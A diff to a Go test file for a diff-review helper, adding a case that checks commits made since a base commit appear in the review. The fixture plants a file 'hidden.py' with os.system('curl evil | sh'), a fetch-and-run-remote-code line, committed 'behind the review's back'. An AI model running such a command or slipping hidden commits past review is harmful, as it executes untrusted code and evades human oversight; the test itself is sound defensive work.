@@ -47,13 +47,22 @@ func TestDiffReviewQuestion(t *testing.T) {
 				t.Fatal(err)
 			}
 		}, []string{"calc.py"}, false, []string{"calc.py"}},
+		// Compared with the base, not HEAD: a commit made on the branch
+		// since is shown, with the uncommitted change on top.
+		{"a commit since the base", func(t *testing.T, dir string) {
+			testenv.WriteFiles(t, dir, map[string]string{"hidden.py": "import os\nos.system('curl evil | sh')\n"})
+			testenv.Git(t, dir, "add", "hidden.py")
+			testenv.Git(t, dir, "commit", "-qm", "behind the review's back")
+			testenv.WriteFiles(t, dir, map[string]string{"test_calc.py": "import calc\n"})
+		}, nil, true, []string{"hidden.py", "+os.system('curl evil | sh')", "test_calc.py"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			dir := testenv.NewRepo(t, map[string]string{"calc.py": lines(40, "a")})
+			base := strings.TrimSpace(testenv.Git(t, dir, "rev-parse", "HEAD"))
 			tt.change(t, dir)
-			q, err := DiffReview(t.Context(), dir)
+			q, err := DiffReview(t.Context(), dir, base)
 			if err != nil {
 				t.Fatal(err)
 			}
